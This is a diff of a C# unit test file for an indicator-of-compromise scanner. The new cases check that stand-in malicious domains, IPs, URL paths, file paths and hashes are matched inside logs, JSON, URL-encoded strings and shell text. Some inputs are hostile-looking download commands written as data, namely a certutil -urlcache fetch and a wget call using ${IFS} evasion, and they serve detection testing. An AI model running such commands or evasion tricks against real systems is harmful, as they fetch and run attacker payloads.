@@ -9,7 +9,7 @@ public sealed class IndicatorScannerTests
 
     private static readonly IndicatorSet Set = Lists.Of(
         "l", "evil-name.com", "deep.sub.evil-name.com", "45.66.230.5", "45.66.230.6:8443", "45.66.230.7:80", "45.66.230.7:443", "url-host.com/a/b.php", "45.66.230.8/x/gate",
-        "/api_of_evil/", "/whole_evil.php", Md5, Sha256, @"c:\programdata\evil\run.dll", @"\evil-loader.exe", "2a02:c207::1", "[2a02:c207::2]:443", "xn--bcher-update-dlb.com", "evil.notinany");
+        "/api_of_evil/", "/whole_evil.php", Md5, Sha256, @"c:\programdata\evil\run.dll", @"\evil-loader.exe", "2a02:c207::1", "[2a02:c207::2]:443", "[2a02:c207::8]/x/gate.php", "http://query-host.com?id=77", "xn--bcher-update-dlb.com", "evil.notinany");
 
     [Theory]
     // Names: what is below them, and nothing beside them.
@@ -61,6 +61,8 @@ public sealed class IndicatorScannerTests
     [InlineData("[2a02:c207::2]:443", "[2a02:c207::2]:443")]
     [InlineData("[2a02:c207::2]:444", "")]
     [InlineData("2a02:c207::12", "")]
+    [InlineData("45.66.230.6:0", "45.66.230.6:8443")]
+    [InlineData("[2a02:c207::2]:0", "[2a02:c207::2]:443")]
     [InlineData("It was 2a02:c207::1.", "2a02:c207::1")]
     // URLs: the host and the beginning of the path.
     [InlineData("http://url-host.com/a/b.php", "url-host.com/a/b.php")]
@@ -71,6 +73,20 @@ public sealed class IndicatorScannerTests
     [InlineData("www.url-host.com/a/b.php", "")]
     [InlineData("http://45.66.230.8:80/x/gate?a", "45.66.230.8/x/gate")]
     [InlineData("http://45.66.230.9/x/gate", "")]
+    [InlineData("http://[2a02:c207::8]/x/gate.php?a", "[2a02:c207::8]/x/gate.php")]
+    [InlineData("http://[2A02:c207:0::8]:8080/x/gate.php", "[2a02:c207::8]/x/gate.php")]
+    [InlineData("http://[2a02:c207::8]/x/gate", "")]
+    [InlineData("http://[2a02:c207::9]/x/gate.php", "")]
+    [InlineData("2a02:c207::8/x/gate.php", "")]
+    [InlineData("http://query-host.com?id=77&x", "query-host.com/?id=77")]
+    [InlineData("http://query-host.com:80/?id=77", "query-host.com/?id=77")]
+    [InlineData("http://query-host.com?id=777", "")]
+    [InlineData("http://query-host.com/x?id=77", "")]
+    [InlineData("http://url-host.com./a/b.php", "url-host.com/a/b.php")]
+    [InlineData("http://url-host.com.:80/a/b.php", "url-host.com/a/b.php")]
+    [InlineData("http://url-host.com../a/b.php", "")]
+    [InlineData("http://45.66.230.8./x/gate", "45.66.230.8/x/gate")]
+    [InlineData("http://any.notthere./whole_evil.php", "/whole_evil.php")]
     // Paths without a host: of URLs alone, and whole.
     [InlineData("http://any.example.io/api_of_evil/x", "/api_of_evil/")]
     [InlineData("http://any.example.io/whole_evil.php?x=1", "/whole_evil.php")]
@@ -88,6 +104,10 @@ public sealed class IndicatorScannerTests
     [InlineData("cmd /c evil-loader.exe -x", "evil-loader.exe")]
     [InlineData(@"C:\Users\a b\evil-loader.exe", "evil-loader.exe")]
     [InlineData("file:///c:/programdata/evil/run.dll", @"c:\programdata\evil\run.dll")]
+    [InlineData(@"{""path"":""C:\\ProgramData\\Evil\\run.dll""}", @"c:\programdata\evil\run.dll")]
+    [InlineData(@"{\""path\"":\""C:\\\\ProgramData\\\\Evil\\\\run.dll\""}", @"c:\programdata\evil\run.dll")]
+    [InlineData(@"{""path"":""C:\/ProgramData\/Evil\/run.dll""}", @"c:\programdata\evil\run.dll")]
+    [InlineData(@"C:\\Users\\a b\\evil-loader.exe", "evil-loader.exe")]
     [InlineData("notevil-loader.exe", "")]
     [InlineData("evil-loader.exe.config", "")]
     [InlineData("", "")]
@@ -111,6 +131,9 @@ public sealed class IndicatorScannerTests
     [InlineData("%1.45.66.230.5", "")]
     [InlineData("ip=%202a02:c207::1", "2a02:c207::1")]
     [InlineData("http%3A%2F%2F%5B2a02%3Ac207%3A%3A1%5D%2F", "2a02:c207::1")]
+    [InlineData("http%3A%2F%2F%5B2a02%3Ac207%3A%3A2%5D%3A444%2F", "")]
+    [InlineData("http%3A%2F%2F%5B2a02%3Ac207%3A%3A8%5D%2Fx%2Fgate.php", "[2a02:c207::8]/x/gate.php")]
+    [InlineData("http%3A%2F%2Fquery-host.com%3Fid%3D77", "query-host.com/?id=77")]
     [InlineData("md5=%3D" + Md5, Md5)]
     [InlineData("md5=%20" + Md5 + "%20", Md5)]
     [InlineData("md5=%61" + Md5, "")]
@@ -148,6 +171,14 @@ public sealed class IndicatorScannerTests
     [InlineData("http://url-host.com/a/b.php: 404", "url-host.com/a/b.php")]
     [InlineData("http://url-host.com/a/b.php! Again", "url-host.com/a/b.php")]
     [InlineData("(http://url-host.com/a/b.php...)", "url-host.com/a/b.php")]
+    [InlineData("http://url-host.com/a/b.php., and more", "url-host.com/a/b.php")]
+    [InlineData("http://url-host.com/a/b.php.;more", "url-host.com/a/b.php")]
+    [InlineData("It asked for http://any.example.io/whole_evil.php.,", "/whole_evil.php")]
+    // The space of a query, and what shells read.
+    [InlineData(@"cmd=certutil+-urlcache+-f+http://url-host.com/a/b.php+C:\x.exe", "url-host.com/a/b.php")]
+    [InlineData("wget${IFS}http://url-host.com/a/b.php${IFS}", "url-host.com/a/b.php")]
+    [InlineData("http://url-host.com/a/b.php*", "url-host.com/a/b.php")]
+    [InlineData("http://any.example.io/whole_evil.php+x", "")]
     [InlineData("http://url-host.com/a/b.php.bak", "")]
     [InlineData("http://url-host.com/a/b.php:8080", "")]
     [InlineData("http://url-host.com/a/b.php!x", "")]
@@ -192,6 +223,33 @@ public sealed class IndicatorScannerTests
     [InlineData(@"""C:\temp\nevil-name.com""", "")]
     [InlineData(@"Domains\nevil-name.com", "")]
     [InlineData(@"{""log"":""\xevil-name.com""}", "")]
+    [InlineData(@"""..\nevil-name.com""", "")]
+    [InlineData(@"""..\temp\nevil-name.com""", "")]
+    [InlineData(@"""...\nevil-name.com""", "evil-name.com")]
+    [InlineData(@"C:\app\r45.66.230.5\app.exe", "")]
+    [InlineData(@"\\fs\t45.66.230.5\share", "")]
+    [InlineData(@"""C:\app\r45.66.230.5\app.exe""", "")]
+    [InlineData(@"C:\app\r2a02:c207::1", "")]
+    [InlineData(@"C:\app\t" + Md5, "")]
+    // Files.
+    [InlineData(@"{""log"":""\u0027evil-loader.exe\u0027""}", "evil-loader.exe")]
+    [InlineData(@"a\u0027evil-loader.exe", "evil-loader.exe")]
+    [InlineData(@"{""log"":""a\nevil-loader.exe""}", "evil-loader.exe")]
+    [InlineData(@"{""log"":""a\tC:\\ProgramData\\Evil\\run.dll""}", @"c:\programdata\evil\run.dll")]
+    [InlineData(@"""C:\temp\nevil-loader.exe""", "")]
+    [InlineData(@"C:\temp\nevil-loader.exe", "")]
+    [InlineData("/nevil-loader.exe", "")]
+    // A web server's log.
+    [InlineData(@"Mozilla \x22evil-name.com\x22", "evil-name.com")]
+    [InlineData(@"\x2245.66.230.5\x22", "45.66.230.5")]
+    [InlineData(@"\x222a02:c207::1\x22", "2a02:c207::1")]
+    [InlineData(@"\x22" + Md5 + @"\x22", Md5)]
+    [InlineData(@"\x22evil-loader.exe\x22", "evil-loader.exe")]
+    [InlineData(@"\x22http://url-host.com/a/b.php\x22", "url-host.com/a/b.php")]
+    [InlineData(@"\x61evil-name.com", "")]
+    [InlineData(@"\x2Eevil-name.com", "")]
+    [InlineData(@"\xD0\xB0evil-name.com", "")]
+    [InlineData(@"\\x22evil-name.com", "")]
     public void What_stands_against_a_value_and_is_none_of_it_hides_nothing(string text, string expected) =>
         Assert.Equal(expected.Length == 0 ? [] : [expected + "@l"], Set.Found(text));
 
@@ -266,6 +324,34 @@ public sealed class IndicatorScannerTests
 
         Assert.Equal(["/whole_evil.php@l", "url-host.com/a/b.php@l"], Lists.Names(scanner));
         Assert.All(scanner.Hits.ToArray(), static hit => Assert.Equal(3, hit.Field));
+    }
+
+    [Theory]
+    [InlineData("url-host.com.", "/a/b.php", "url-host.com/a/b.php")]
+    [InlineData("URL-HOST.com.:443", "/a/b.php", "url-host.com/a/b.php")]
+    [InlineData("45.66.230.8:80", "/x/gate", "45.66.230.8/x/gate")]
+    [InlineData("[2a02:c207:0::8]:8080", "/x/gate.php", "[2a02:c207::8]/x/gate.php")]
+    [InlineData("[2a02:c207::8]", "/x/gate.php", "[2a02:c207::8]/x/gate.php")]
+    [InlineData("2a02:c207::8", "/x/gate.php", "[2a02:c207::8]/x/gate.php")]
+    [InlineData("2a02:c207::9", "/x/gate.php", "")]
+    [InlineData("[::x]:80", "/whole_evil.php", "/whole_evil.php")]
+    [InlineData("[::", "/x/gate.php", "")]
+    [InlineData(".", "/a/b.php", "")]
+    public void A_requests_host_may_be_written_in_several_ways(string host, string path, string expected)
+    {
+        var scanner = new IndicatorScanner(Set);
+        scanner.ScanPath(host, path, 0);
+
+        Assert.Equal(expected.Length == 0 ? [] : [expected + "@l"], Lists.Names(scanner));
+    }
+
+    [Fact]
+    public void A_file_path_may_be_listed_as_source_writes_it()
+    {
+        IndicatorSet set = Lists.Of("l", @"C:\\ProgramData\\Evil\\run.dll");
+
+        Assert.Equal([@"c:\programdata\evil\run.dll@l"], set.Found(@"C:\ProgramData\Evil\run.dll"));
+        Assert.Equal([@"c:\programdata\evil\run.dll@l"], set.Found(@"""C:\\ProgramData\\Evil\\run.dll"""));
     }
 
     [Fact]
